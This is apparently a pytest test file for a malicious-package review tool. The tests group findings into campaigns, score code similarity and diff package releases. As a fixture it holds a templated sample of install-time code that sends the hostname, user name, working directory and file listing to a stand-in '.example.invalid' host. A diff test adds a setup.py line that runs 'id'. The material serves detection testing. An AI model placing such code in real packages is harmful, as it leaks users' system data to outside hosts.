"""Campaigns and differences as their jobs make them: real archives, a real sandbox, both databases."""

from __future__ import annotations

import hashlib
import io
import tarfile
import zipfile
from collections.abc import Iterator
from datetime import datetime
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select, update

from bonded.accounts import people
from bonded.adapters.sandbox_pick import pick
from bonded.adapters.storage_files import FileStorage
from bonded.catalog import read
from bonded.catalog.tables import case as case_table
from bonded.catalog.tables import file as file_table
from bonded.db.engine import Database
from bonded.db.jobs import enqueue, job
from bonded.db.worker import work_once
from bonded.journal.tables import journal
from bonded.review import compare, grouping, related
from bonded.review.campaigns import campaigns
from bonded.review.compare_plan import place, plan
from bonded.review.regrouping import regroup
from bonded.review.settings import ReviewContext
from bonded.review.traits import ALIKE_FROM, Trait, addresses, bands
from bonded.seams import Sandbox
from bonded.values.states import FileState
from bonded.values.who import OPERATOR
from tests.review.making import into_case, kept_text, one_file, one_finding, open_case, project

PAYLOAD = """
import os, socket, urllib.request
{name} = socket.gethostname() + os.environ.get("USER", "")
for {name}_part in ({name}, os.getcwd(), os.listdir(".")):
    {name}_request = urllib.request.Request("https://{host}.example.invalid/in?id=" + str({name}_part))
    {name}_request.add_header("X-Number", "{number}")
    with urllib.request.urlopen({name}_request, timeout=3) as {name}_answer:
        if {name}_answer.status == 200 and {name}_answer.read(10):
            os.environ["{name}"] = {name}_answer.read().decode()
"""
OTHER = """
from setuptools import setup, find_packages
def version():
    with open("VERSION", encoding="utf-8") as stream:
        return stream.readline().strip() or None
setup(name="x", version=version(), packages=find_packages("src"), package_dir={"": "src"}, zip_safe=False,
      install_requires=[line for line in open("requirements.txt") if not line.startswith("#")])
"""


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    found = pick("auto")
    yield found
    found.close()


class Room:
    """Files with bytes in a vault, cases, and a worker for the jobs of review."""

    def __init__(self, db: Database, folder: Path, sandbox: Sandbox, now: datetime) -> None:
        self.db, self.now = db, now
        self.vault = FileStorage(folder / "vault")
        self.context = ReviewContext(db, self.vault, sandbox)
        with db.write() as tx:
            self.owner = people.create(tx, OPERATOR, "owner", "o@example.invalid", is_admin=False, now=now).id
        self.projects: dict[str, read.Project] = {}

    def file(self, name: str, filename: str, data: bytes, *, version: str = "1.0", uploader: str, **more: Any) -> str:
        with self.db.write() as tx:
            made = self.projects.get(name) or project(tx, self.owner, self.now, name)
            self.projects[name] = made
            file_id = one_file(tx, made, self.now, version=version, uploader=uploader, **more)
            key = f"{hashlib.sha256(data).hexdigest()}.{file_id}"
            values = {"filename": filename, "sha256": key.split(".")[0], "vault_key": key}
            tx.execute(update(file_table).where(file_table.c.id == file_id).values(values))
        self.vault.create(key, data)
        return file_id

    def found(self, file_id: str, text: str) -> int:
        """A finding about all of `text`, and a case for it; returns the case's number. The job is queued."""
        digest = hashlib.sha256(text.encode()).hexdigest()
        with self.db.write() as tx:
            file = read.file(tx, file_id)
            assert file
            kept = {"path": "setup.py", "sha256": digest, "text": text, "first_line": 1, "decoded": []}
            kept_text(tx, file_id, kept, self.now)
            where = {"line": 1, "end_line": text.count("\n") + 1, "excerpt": text[:300], "evidence": file_id}
            one_finding(tx, file_id, self.now, **where)
            number = open_case(tx, self.projects[file.project_key], self.now)
            into_case(tx, file_id, number)
            enqueue(tx, "group", f"group:{number}", {"case_id": number}, now=self.now)
        return number

    def work(self) -> None:
        handlers: Any = {
            "group": partial(grouping.handle, self.context),
            "compare": partial(compare.handle, self.context),
        }
        while work_once(self.db, handlers, lambda: self.now):
            pass
        with self.db.read() as conn:
            assert conn.execute(select(job.c.last_error).where(job.c.queue.in_(handlers))).scalars().all() == []

    def campaign_of(self, number: int) -> int:
        with self.db.read() as conn:
            return int(conn.execute(select(case_table.c.campaign_id).where(case_table.c.id == number)).scalar_one())


@pytest.fixture
def room(db: Database, tmp_path: Path, sandbox: Sandbox, now: datetime) -> Room:
    return Room(db, tmp_path, sandbox, now)


def sdist(name: str, version: str, **members: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in members.items():
            info = tarfile.TarInfo(f"{name}-{version}/{path}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return buffer.getvalue()


def wheel(**members: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, text in members.items():
            archive.writestr(path, text)
    return buffer.getvalue()


def payload(name: str, host: str) -> str:
    return PAYLOAD.format(name=name, host=host, number=len(name))


def test_cases_that_share_something_telling_are_one_campaign(room: Room) -> None:
    texts = {
        "first": payload("alpha", "one"),
        "alike": payload("renamed", "two"),  # other names, another address: the code is much the same
        "address": 'import webbrowser\nwebbrowser.open("https://one.example.invalid/in?id=7")\n',
        "alone": OTHER,
    }
    numbers = {}
    for name, text in texts.items():
        data = sdist(name, "1.0", **{"setup.py": text, "tables.py": "# the same everywhere\n" * 20})
        file_id = room.file(name, f"{name}-1.0.tar.gz", data, uploader=f"by-{name}")
        numbers[name] = room.found(file_id, text)
        room.work()
    assert [room.campaign_of(numbers[name]) for name in texts] == [1, 1, 1, numbers["alone"]]
    with room.db.read() as conn:
        lines, after = campaigns(conn)
        files = read.files(conn, room.projects["first"].id)
        near = related.related(conn, room.projects["first"].id, files)
    assert [(line.id, line.cases) for line in lines] == [(1, 3), (4, 1)]
    assert after is None
    assert {one.kind for one in lines[0].shared} == {"address", "alike"}
    assert {(one.project_key, one.why) for one in near} == {
        ("alike", "alike"),
        ("address", "address"),
        ("alike", "member"),
        ("address", "member"),
        ("alone", "member"),
    }


def test_one_uploader_or_one_payload_joins_and_two_campaigns_become_one(room: Room) -> None:
    first = room.found(room.file("a", "a-1.0.tar.gz", sdist("a", "1.0", x="1"), uploader="ann"), payload("q", "h"))
    second = room.found(room.file("b", "b-1.0.tar.gz", sdist("b", "1.0", x="2"), uploader="bob"), OTHER)
    room.work()
    assert room.campaign_of(second) == second != first
    third = room.found(room.file("c", "c-1.0.tar.gz", sdist("c", "1.0", x="3"), uploader="bob"), payload("q", "h"))
    room.work()
    assert {room.campaign_of(one) for one in (first, second, third)} == {first}


def test_campaigns_that_do_not_belong_together_any_more_come_apart(room: Room) -> None:
    """Grown by a rule that is gone: marks that nothing gives today join nothing after all cases were grouped anew."""
    one = room.found(room.file("a", "a-1.0.tar.gz", sdist("a", "1.0", x="1"), uploader="ann"), payload("q", "h"))
    same = room.found(room.file("b", "b-1.0.tar.gz", sdist("b", "1.0", x="2"), uploader="bob"), payload("q", "h"))
    other = room.found(room.file("c", "c-1.0.tar.gz", sdist("c", "1.0", x="3"), uploader="eve"), OTHER)
    with room.db.write() as tx:
        ids = tx.execute(select(file_table.c.id)).scalars().all()
        grouping.note(tx, {file_id: [Trait("address", "of-an-older-rule", "")] for file_id in ids})
    room.work()
    assert {room.campaign_of(number) for number in (one, same, other)} == {one}
    with room.db.write() as tx:
        assert regroup(tx, OPERATOR, now=room.now) == 3
        assert set(tx.execute(select(case_table.c.campaign_id)).scalars()) == {None}
        assert tx.execute(select(journal.c.facts).where(journal.c.action == "campaign.regroup")).scalars().all() == [
            {"cases": 3}
        ]
    room.work()
    assert [room.campaign_of(number) for number in (one, same, other)] == [one, one, other]


def test_differences_from_the_release_before_and_between_sdist_and_wheel(room: Room) -> None:
    old = {"setup.py": "from setuptools import setup\nsetup()\n", "src/pkg/__init__.py": "x = 1\n", "README": "hi"}
    new = old | {"setup.py": old["setup.py"] + "import os\nos.system('id')\n", "src/pkg/new.py": "y = <b>\n"}
    before = room.file("pkg", "pkg-1.0.tar.gz", sdist("pkg", "1.0", **old), uploader="ann", state=FileState.PUBLIC)
    file_id = room.file("pkg", "pkg-1.1.tar.gz", sdist("pkg", "1.1", **new), version="1.1", uploader="ann")
    members = {"pkg/__init__.py": "x = 2\n", "pkg/new.py": "y = <b>\n", "pkg-1.1.dist-info/METADATA": "Name: pkg"}
    made = room.file("pkg", "pkg-1.1-py3-none-any.whl", wheel(**members), version="1.1", uploader="ann")
    room.found(file_id, "import os\nos.system('id')\n")
    room.work()
    with room.db.read() as conn:
        file = read.file(conn, file_id)
        assert file
        assert [(one.old.id, one.new.id, one.why) for one in compare.pairs(conn, [file])] == [
            (before, file_id, "previous"),
            (file_id, made, "sdist"),
        ]
        since = compare.comparison(conn, before, file_id)
        against = compare.comparison(conn, file_id, made)
    assert since
    assert against
    assert (since.outcome, since.same) == ("ok", 2)
    assert [(one.change.kind, one.change.path) for one in since.changes] == [
        ("changed", "pkg-1.1/setup.py"),
        ("added", "pkg-1.1/src/pkg/new.py"),
    ]
    assert since.changes[0].lines[-2:] == ("+os.system('id')", " ")
    assert [(one.change.kind, one.change.path) for one in against.changes] == [
        ("changed", "pkg/__init__.py"),
        ("added", "pkg-1.1.dist-info/METADATA"),
        ("removed", "pkg-1.1/setup.py"),
        ("removed", "pkg-1.1/README"),
    ]
    assert against.changes[0].lines[1:3] == ("-x = 1", "+x = 2")


def test_what_cannot_be_compared_says_so(room: Room) -> None:
    hostile = {"big.py": "x = 1\n" * 400_000, "data.bin": "\0" * 50, "long.py": "y = 1\n" * 7000, "line.py": "z" * 9000}
    old = room.file("p", "p-1.0.tar.gz", sdist("p", "1.0", **{"long.py": "x = 1\n" * 7000}), uploader="")
    new = room.file("p", "p-1.1.tar.gz", sdist("p", "1.1", **hostile), version="1.1", uploader="")
    gone = room.file("p", "p-1.2.tar.gz", b"not an archive", version="1.2", uploader="")
    with room.db.write() as tx:
        compare.ask(tx, old, new, now=room.now)
        compare.ask(tx, new, gone, now=room.now)
        row = read.file(tx, gone)
        assert row
    room.work()
    with room.db.read() as conn:
        answer, broken = compare.comparison(conn, old, new), compare.comparison(conn, new, gone)
    assert answer
    assert {one.change.path.split("/")[1]: one.note for one in answer.changes} == {
        "big.py": "too-large",
        "data.bin": "binary",
        "long.py": "too-large",
        "line.py": "",
    }
    (line,) = [one.lines for one in answer.changes if one.change.path.endswith("line.py")]
    assert all(len(one) < 600 for one in line)
    assert broken
    assert broken.outcome == "ok"
    assert broken.unread, "an archive that cannot be read is told, and is no fault"
    room.vault.delete(row.vault_key)
    with room.db.write() as tx:
        compare.ask(tx, new, gone, now=room.now)
    room.work()
    with room.db.read() as conn:
        again = compare.comparison(conn, new, gone)
    assert again
    assert again.outcome == "gone"


def test_members_are_paired_by_place_then_by_content() -> None:
    old = [("p-1/a.py", 1, "A"), ("p-1/b.py", 1, "B"), ("p-1/c.py", 1, "C"), ("p-1/RECORD", 1, "R")]
    new = [("p-2/a.py", 1, "A"), ("p-2/x/b.py", 1, "B"), ("p-2/c.py", 2, "D"), ("p-2/RECORD", 1, "S")]
    found = plan("p-1.tar.gz", old, "p-2.tar.gz", new)
    assert found.same == 1
    assert {(one.kind, one.old, one.new) for one in found.changes} == {
        ("changed", "p-1/c.py", "p-2/c.py"),
        ("changed", "p-1/RECORD", "p-2/RECORD"),
        ("moved", "p-1/b.py", "p-2/x/b.py"),
    }
    assert [one.path for one in found.changes if one.by_line] == ["p-2/c.py"]
    assert place("p-1.whl", "p-1.dist-info/METADATA", mixed=False) == "*.dist-info/METADATA"


def test_only_much_the_same_code_is_alike() -> None:
    def equal(one: str, other: str) -> int:
        return len(set(bands([one])) & set(bands([other])))

    assert equal(payload("a", "b"), payload("longer_name", "elsewhere")) >= ALIKE_FROM
    assert equal(payload("a", "b"), OTHER) < ALIKE_FROM
    assert bands(["exec(x)"]) == [], "short code is like much other code"


def test_addresses_are_told_apart_by_their_path() -> None:
    text = "get('HTTPS://User:pw@Host.example.invalid:8080/a/b/?q=1#f'); open('http://x'); 'http://[::1'; \u202e"
    assert addresses([text, text]) == ["https://host.example.invalid:8080/a/b"]
